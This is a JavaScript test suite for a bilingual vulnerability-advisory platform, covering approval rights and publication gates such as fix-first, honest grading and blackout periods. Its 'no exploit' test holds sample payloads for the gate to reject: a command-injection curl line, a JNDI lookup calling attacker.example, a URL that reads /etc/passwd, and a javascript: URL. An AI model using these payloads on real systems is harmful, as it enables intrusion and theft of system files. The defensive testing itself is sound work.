// The advisory (公告, issue 10): created from the case, edited in both
// languages, approved by the provider only, published through all six
// publication gates, revised as new revisions; the blackout calendar and the
// consents authorities record; the public advisories show only what was
// published. Every refused request changes nothing.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { dbDigest, sharedServer, sqlite } from './lib/server.mjs';
import { acceptedCase, createOrg, createProduct, moveCase, publishAdvisory, signedInUser, uniq } from './lib/fixtures.mjs';

const VECTOR = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';

describe('advisories and the publication gates', () => {
  let server, admin, anon;
  let org, product, providerAdmin, providerMember, officer;
  sharedServer((s) => ({ server, admin, anon } = s));

  before(async () => {
    org = await createOrg(admin, { name: uniq('Acme Networks ') });
    product = await createProduct(admin, org.id, { name: uniq('Acme Router '), model: 'AR-1000', purls: ['pkg:generic/acme/router'] });
    providerAdmin = await signedInUser(server, admin, [{ org_id: org.id, role: 'admin' }]);
    providerMember = await signedInUser(server, admin, [{ org_id: org.id, role: 'member' }]);
    const authority = await createOrg(admin, { name: uniq('MPS office '), type: 'authority' });
    officer = await signedInUser(server, admin, [{ org_id: authority.id, role: 'member' }]);
  });

  async function fixedCase(extra = {}) {
    const { caseId } = await acceptedCase(admin, anon, { product_id: product.id, title: uniq('Command injection in the diagnostics page '), ...extra });
    const r = await admin.put(`/api/v1/cases/${caseId}/assessment`, { cvss31_vector: VECTOR, cwe: 'CWE-78' });
    assert.equal(r.status, 200, r.text);
    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
    return caseId;
  }

  const publish = (caseId, patch) => publishAdvisory({ publisher: admin, approver: providerAdmin, caseId, patch });

  // Sends a request that must be refused and checks that nothing changed.
  async function refused(send, status, code) {
    const before = dbDigest(server.dataDir);
    const r = await send();
    assert.equal(r.status, status, r.text);
    if (code) assert.equal(r.json.error.code, code, r.text);
    assert.deepEqual(dbDigest(server.dataDir), before, 'a refused request changed the database');
    return r;
  }

  const toPublished = (caseId, who = admin) => who.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'published' });

  it('create prefills from the case; one language is required; only the provider approves', async () => {
    const caseId = await fixedCase();
    const kase = (await admin.get(`/api/v1/cases/${caseId}`)).json;
    assert.equal((await admin.get(`/api/v1/cases/${caseId}/advisory`)).status, 404);
    let r = await providerMember.post(`/api/v1/cases/${caseId}/advisory`);
    assert.equal(r.status, 201, r.text);
    const a = r.json;
    assert.equal(a.state, 'draft');
    assert.equal(a.revision, 0);
    assert.equal(a.ref, kase.ref.replace(/^LD-/, 'LD-SA-'));
    assert.equal(a.en.title, kase.title);
    assert.equal(a.zh.title, '');
    assert.equal(a.grade, 'critical');
    assert.equal(a.cvss31_vector, VECTOR);
    assert.equal(a.cvss31_score, 9.8);
    assert.equal(a.cwe, 78, 'the advisory JSON (formats/advisory_json.h) writes the CWE number');
    assert.equal(a.affected.length, 1);
    assert.equal(a.affected[0].vendor, org.name);
    assert.equal(a.affected[0].name, `${product.name} AR-1000`);
    assert.equal(a.affected[0].purl, 'pkg:generic/acme/router');
    // A plain member of the provider sends to review; withdrawing is for those who publish.
    assert.deepEqual(a.allowed_transitions, ['in_review']);
    assert.deepEqual((await admin.get(`/api/v1/cases/${caseId}/advisory`)).json.allowed_transitions, ['in_review', 'withdrawn']);
    await refused(() => admin.post(`/api/v1/cases/${caseId}/advisory`), 409, 'exists');

    // Both languages empty: both fields named; nothing changes.
    const empty = { title: '', summary: '', impact: '', existence_statement: '', detection: '', solution: '' };
    r = await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { zh: empty, en: empty }), 422);
    assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]),
      [['zh.title', 'one_language_required'], ['en.title', 'one_language_required']]);
    r = await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { zh: { solution: 'ok\u001b[2J' } }), 422);
    assert.equal(r.json.error.details.fields[0].field, 'zh.solution');
    r = await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { references: [{ url: 'javascript:alert(1)' }] }), 422);
    assert.equal(r.json.error.details.fields[0].field, 'references[0].url');
    await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { en: { title: 5 } }), 400);

    // Bilingual, by the provider's member too.
    r = await providerMember.patch(`/api/v1/cases/${caseId}/advisory`, {
      zh: { title: '诊断页面命令注入', summary: '诊断页面的 host 参数未经过滤传给 shell。', solution: '升级到 2.3 版固件。' },
      en: { solution: 'Upgrade to firmware 2.3.' },
      credits: [{ name: 'Fiona Finder' }],
      references: [{ url: 'https://acme.example/psirt/2026-1', kind: 'advisory', summary: 'vendor advisory' }],
    });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.zh.title, '诊断页面命令注入');
    assert.equal(r.json.credits[0].role, 'finder');
    // The CWE is written back as read (a number), or as the assessment writes it.
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, { cwe: 79 });
    assert.equal(r.json.cwe, 79, r.text);
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, { cwe: 'CWE-78' });
    assert.equal(r.json.cwe, 78, r.text);

    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'in_review' });
    assert.equal(r.status, 200, r.text);
    // Neither intake staff nor a plain member of the provider approves.
    for (const who of [admin, providerMember])
      await refused(() => who.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'approved' }), 403);
    await refused(() => admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'published' }), 409, 'illegal_transition');
    r = await providerAdmin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'approved' });
    assert.equal(r.status, 200, r.text);
    // Approved: no edits without going back to draft.
    r = await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { en: { title: 'late edit' } }), 409, 'not_editable');
    await refused(() => providerMember.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'published' }), 403);
    r = await providerAdmin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'published' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'published');
    assert.equal(r.json.revision, 1);
    assert.equal(r.json.history[0].change, 'Initial release');
    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'published');
  });

  it('fix first (R-PUB-1): refused without a solution, allowed with an early-release joint assessment', async () => {
    const caseId = await fixedCase();
    let r = await publish(caseId, null);
    assert.equal(r.status, 409, r.text);
    r = await refused(() => toPublished(caseId), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['fix_first']);
    assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]), [['fix_first', 'R-PUB-1']]);
    assert.match(r.json.error.message, /拒绝发布/);
    let a = (await admin.get(`/api/v1/cases/${caseId}/advisory`)).json;
    assert.equal(a.state, 'approved');
    assert.equal(a.revision, 0);
    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'fixed');
    r = await admin.get(`/api/v1/cases/${caseId}/advisory/gates`);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.passed, false);
    assert.deepEqual(r.json.gates.map((g) => g.gate),
      ['fix_first', 'no_operator_details', 'no_exploit', 'blackout', 'no_foreign_recipient', 'honest_grade']);
    assert.deepEqual(r.json.gates.filter((g) => !g.passed).map((g) => g.gate), ['fix_first']);
    for (const g of r.json.gates) assert.ok(g.message && g.message_zh && g.rule, JSON.stringify(g));

    // Only an authority's officer (or a host admin) records the assessment; its fields are checked.
    const assessment = { kind: 'early_release', provider: `${org.name} PSIRT`, miit_reference: 'MIIT-2026-17', miit_date: '2026-12-01', mps_reference: 'MPS-2026-9', mps_date: '2026-12-02' };
    await refused(() => providerAdmin.post(`/api/v1/cases/${caseId}/consents`, assessment), 403);
    r = await refused(() => officer.post(`/api/v1/cases/${caseId}/consents`, { ...assessment, miit_reference: '', mps_date: '2026-13-45' }), 422);
    assert.deepEqual(r.json.error.details.fields.map((f) => f.field).sort(), ['miit_reference', 'mps_date']);
    await refused(() => officer.post(`/api/v1/cases/999999/consents`, assessment), 404);
    r = await officer.post(`/api/v1/cases/${caseId}/consents`, assessment);
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.kind, 'early_release');
    r = await admin.get(`/api/v1/cases/${caseId}`);
    assert.deepEqual(r.json.consents.map((k) => [k.kind, k.miit_reference, k.mps_reference]), [['early_release', 'MIIT-2026-17', 'MPS-2026-9']]);

    r = await toPublished(caseId);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.revision, 1);
    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'published');
  });

  it('no exploit (R-PUB-4): every public field of both languages, each hit named', async () => {
    const caseId = await fixedCase();
    let r = await publish(caseId, {
      zh: { title: '诊断页面命令注入', summary: '复现：\n```\ncurl "http://target/diag.cgi?host=1;id"\n```', solution: '升级到 2.3 版固件。' },
      en: { solution: 'Block requests containing ${jndi:ldap://attacker.example/a} at the proxy.' },
      references: [{ url: 'https://target.example/cgi-bin/diag.cgi?host=127.0.0.1;cat%20/etc/passwd', kind: 'web' }],
    });
    assert.equal(r.status, 409, r.text);
    r = await refused(() => toPublished(caseId), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
    assert.match(r.json.error.message, /zh\.summary: code_block/);
    assert.match(r.json.error.message, /en\.solution: payload near "[^"]*\$\{jndi:/);
    assert.match(r.json.error.message, /references\[0\]\.url: url_shell_metachar/);
    // Back to draft, describe instead of quoting, publish.
    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft', reason: 'remove the payloads' });
    assert.equal(r.status, 200, r.text);
    r = await publish(caseId, {
      zh: { summary: '诊断页面的 host 参数未经过滤传给 shell。' },
      en: { solution: 'Upgrade to firmware 2.3; until then block remote access to the diagnostics page.' },
      references: [{ url: 'https://acme.example/psirt/2026-2', kind: 'advisory' }],
    });
    assert.equal(r.status, 200, r.text);
  });

  it('honest grade (R-PUB-3): the published grade and scores equal the assessment, naming what differs', async () => {
    const caseId = await fixedCase();
    let r = await publish(caseId, { grade: 'medium', en: { solution: 'Upgrade.' } });
    assert.equal(r.status, 409, r.text);
    r = await refused(() => toPublished(caseId), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['honest_grade']);
    assert.match(r.json.error.message, /grade: medium \(assessed critical\)/);
    await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft' });
    r = await publish(caseId, { grade: 'critical', cvss31_vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H' });
    assert.equal(r.status, 409, r.text);
    assert.match(r.json.error.message, /cvss31_vector: .*UI:R.* \(assessed .*UI:N/);
    assert.match(r.json.error.message, /cvss31_score: 8\.8 \(assessed 9\.8\)/);
    await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft' });
    r = await publish(caseId, { cvss31_vector: VECTOR });
    assert.equal(r.status, 200, r.text);
  });

  it('no operator details (R-PUB-2): an operator\'s case never publishes, by either path', async () => {
    const caseId = await fixedCase();
    let r = await admin.patch(`/api/v1/cases/${caseId}`, { operator_system: true });
    assert.equal(r.status, 200, r.text);
    r = await publish(caseId);
    assert.equal(r.status, 409, r.text);
    await officer.post(`/api/v1/cases/${caseId}/consents`, { kind: 'mps_blackout', mps_reference: 'MPS-X', mps_date: '2026-12-01' });
    r = await refused(() => toPublished(caseId), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
    assert.match(r.json.error.message, /R-PUB-2/);
    r = await refused(() => admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' }), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
    assert.equal((await admin.get(`/api/v1/cases/${caseId}/advisory`)).json.revision, 0);
  });

  it('no foreign recipient (R-PUB-7): a foreign participant other than the provider is named', async () => {
    const caseId = await fixedCase();
    const partner = await createOrg(admin, { name: uniq('Partner '), type: 'operator' });
    let r = await admin.post(`/api/v1/cases/${caseId}/participants`, { org_id: partner.id, role: 'participant' });
    assert.equal(r.status, 200, r.text);
    // The partner moved abroad after it joined.
    sqlite(server.db, `UPDATE orgs SET region = 'US' WHERE id = ${partner.id}`);
    r = await publish(caseId);
    assert.equal(r.status, 409, r.text);
    assert.deepEqual(r.json.error.details.allowed, ['no_foreign_recipient']);
    assert.ok(r.json.error.message.includes(`${partner.name} (US)`), r.text);
    sqlite(server.db, `UPDATE orgs SET region = 'CN' WHERE id = ${partner.id}`);
    r = await toPublished(caseId);
    assert.equal(r.status, 200, r.text);
  });

  it('blackout (R-PUB-6): the admins\' calendar refuses, an MPS consent for the case allows', async () => {
    const caseId = await fixedCase();
    const now = Date.now();
    const period = { name: uniq('两会 '), start: new Date(now - 3600_000).toISOString(), end: new Date(now + 3600_000).toISOString() };
    await refused(() => providerAdmin.post('/api/v1/blackouts', period), 403);
    await refused(() => admin.post('/api/v1/blackouts', { ...period, end: period.start }), 422);
    let r = await admin.post('/api/v1/blackouts', period);
    assert.equal(r.status, 201, r.text);
    const blackout = r.json;
    try {
      r = await providerMember.get('/api/v1/blackouts');
      assert.equal(r.status, 200, r.text);
      assert.ok(r.json.items.some((b) => b.id === blackout.id && b.name === period.name));
      assert.equal((await anon.get('/api/v1/blackouts')).status, 401);

      r = await publish(caseId);
      assert.equal(r.status, 409, r.text);
      r = await refused(() => toPublished(caseId), 409, 'publication_refused');
      assert.deepEqual(r.json.error.details.allowed, ['blackout']);
      assert.ok(r.json.error.message.includes(period.name), r.text);
      // A consent for another case does not count.
      const other = await fixedCase();
      r = await officer.post(`/api/v1/cases/${other}/consents`, { kind: 'mps_blackout', mps_reference: 'MPS-OTHER', mps_date: '2026-12-01' });
      assert.equal(r.status, 201, r.text);
      await refused(() => toPublished(caseId), 409, 'publication_refused');

      r = await officer.post(`/api/v1/cases/${caseId}/consents`, { kind: 'mps_blackout', mps_reference: 'MPS-2026-44', mps_date: '2026-12-03', notes: 'consent by phone, letter follows' });
      assert.equal(r.status, 201, r.text);
      r = await admin.get(`/api/v1/cases/${caseId}/advisory/gates`);
      const gate = r.json.gates.find((g) => g.gate === 'blackout');
      assert.equal(gate.passed, true);
      assert.match(gate.message, /MPS-2026-44/);
      r = await toPublished(caseId);
      assert.equal(r.status, 200, r.text);
    } finally {
      r = await admin.del(`/api/v1/blackouts/${blackout.id}`);
      assert.equal(r.status, 200, r.text);
    }
    await refused(() => admin.del(`/api/v1/blackouts/${blackout.id}`), 404);
  });

  it('revise: revision 1 stays public until revision 2 is published; the public never sees a working copy', async () => {
    const caseId = await fixedCase();
    let r = await publish(caseId, { en: { solution: 'Upgrade to firmware 2.3.' } });
    assert.equal(r.status, 200, r.text);
    const ref = r.json.ref;
    const firstTitle = r.json.en.title;
    const firstAt = r.json.published_at;
    await refused(() => admin.patch(`/api/v1/cases/${caseId}/advisory`, { en: { title: 'silent edit' } }), 409, 'not_editable');

    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft', reason: 'new fixed version' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'draft');
    assert.equal(r.json.revision, 1);
    const secretTitle = uniq('Revised working title ');
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, { en: { title: secretTitle, solution: 'Upgrade to firmware 2.3.1.' } });
    assert.equal(r.status, 200, r.text);
    r = await anon.get(`/api/v1/public/advisories/${encodeURIComponent(ref)}`);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.revision, 1);
    assert.equal(r.json.en.title, firstTitle);
    assert.ok(!(await anon.get('/api/v1/public/advisories?limit=200')).text.includes(secretTitle));

    // A later revision needs its change note; refused without one, nothing changes.
    r = await publish(caseId, null);
    assert.equal(r.status, 422, r.text);
    r = await refused(() => toPublished(caseId), 422);
    assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]), [['reason', 'change_note_required']]);
    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'published', reason: 'Fixed in 2.3.1 as well' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.revision, 2);
    assert.deepEqual(r.json.history.map((h) => h.change), ['Initial release', 'Fixed in 2.3.1 as well']);
    assert.equal(r.json.published_at, firstAt);
    assert.deepEqual(r.json.history.map((h) => h.number), [1, 2]);
    assert.deepEqual(r.json.revisions.map((h) => h.revision), [1, 2]);
    r = await anon.get(`/api/v1/public/advisories/${encodeURIComponent(ref)}`);
    assert.equal(r.json.revision, 2);
    assert.equal(r.json.en.title, secretTitle);
    assert.equal(r.json.published_at, firstAt);
    assert.equal(r.json.history.length, 2);
  });

  it('public advisories: only published, TLP:CLEAR, not withdrawn; public fields only', async () => {
    const draftCase = await fixedCase();
    let r = await admin.post(`/api/v1/cases/${draftCase}/advisory`);
    const draftRef = r.json.ref;
    const amberCase = await fixedCase();
    r = await publish(amberCase, { en: { solution: 'Upgrade.' }, tlp: 'AMBER' });
    assert.equal(r.status, 200, r.text);
    const amberRef = r.json.ref;
    const pubCase = await fixedCase({ verification: 'zzsecret-poc-steps' });
    r = await publish(pubCase, { en: { solution: 'Upgrade.' }, credits: [{ name: 'Fiona Finder', user_id: 1 }] });
    assert.equal(r.status, 200, r.text);
    const pubRef = r.json.ref;

    r = await anon.get('/api/v1/public/advisories?limit=200');
    assert.equal(r.status, 200, r.text);
    const refs = r.json.items.map((x) => x.ref);
    assert.ok(refs.includes(pubRef));
    assert.ok(!refs.includes(draftRef) && !refs.includes(amberRef));
    assert.equal(refs[0], pubRef, 'newest publication first');
    const item = r.json.items[0];
    assert.equal(item.title, item.en.title);
    assert.equal(item.grade, 'critical');
    assert.equal(item.tlp, 'CLEAR');
    for (const k of ['id', 'case_id', 'state', 'created_at']) assert.ok(!(k in item), k);
    assert.ok(!('user_id' in item.credits[0]));
    assert.ok(!r.text.includes('zzsecret-poc-steps'));
    for (const ref of [draftRef, amberRef, 'LD-SA-1999-000000'])
      assert.equal((await anon.get(`/api/v1/public/advisories/${encodeURIComponent(ref)}`)).status, 404, ref);

    // Withdrawn: gone from the public pages, with a reason.
    await refused(() => admin.post(`/api/v1/cases/${pubCase}/advisory/transition`, { to: 'withdrawn' }), 422);
    r = await admin.post(`/api/v1/cases/${pubCase}/advisory/transition`, { to: 'withdrawn', reason: 'published in error' });
    assert.equal(r.status, 200, r.text);
    assert.equal((await anon.get(`/api/v1/public/advisories/${encodeURIComponent(pubRef)}`)).status, 404);
  });

  it('the direct case transition to published goes through the advisory and its gates', async () => {
    const caseId = await fixedCase();
    let r = await refused(() => admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' }), 409, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['advisory']);
    assert.match(r.json.error.message, /publish the advisory/);
    assert.match(r.json.error.message, /请先发布公告/);
    // Approved: the case transition publishes it, with the gates.
    r = await admin.post(`/api/v1/cases/${caseId}/advisory`);
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, { en: { solution: 'Upgrade.' } });
    await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'in_review' });
    await providerAdmin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'approved' });
    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published', reason: 'advisory out' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'published');
    r = await admin.get(`/api/v1/cases/${caseId}/advisory`);
    assert.equal(r.json.state, 'published');
    assert.equal(r.json.revision, 1);
  });
});
